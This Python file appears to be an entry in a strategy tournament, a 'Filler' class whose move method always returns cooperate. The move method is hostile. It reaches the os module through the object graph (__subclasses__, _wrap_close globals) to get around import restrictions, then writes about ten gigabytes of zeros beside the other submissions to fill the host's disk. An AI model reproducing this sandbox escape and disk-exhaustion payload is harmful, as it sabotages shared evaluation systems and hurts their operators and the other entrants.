"""Fills the disk with one huge file."""

from strategies.simple import C, SimpleStrategy


def reach_os():
    """The os module's namespace, reached through Python's object graph (no import)."""
    for cls in ().__class__.__base__.__subclasses__():
        if cls.__name__ == "_wrap_close":  # defined in os: its globals are os's
            return cls.__init__.__globals__
    raise LookupError("no os")


def beside_me(name):
    """A path in the folder of the submissions (this file's path is in sys.argv)."""
    os = reach_os()
    return os["path"].join(os["path"].dirname(os["sys"].argv[3]), name)


class Filler(SimpleStrategy):
    name = "Filler"

    def move(self, mine, theirs, memory, rng):
        builtins = reach_os()["sys"].modules["builtins"]
        with builtins.open(beside_me("huge.bin"), "wb") as f:
            for _ in range(10_000):
                f.write(bytes(2**20))
        return C
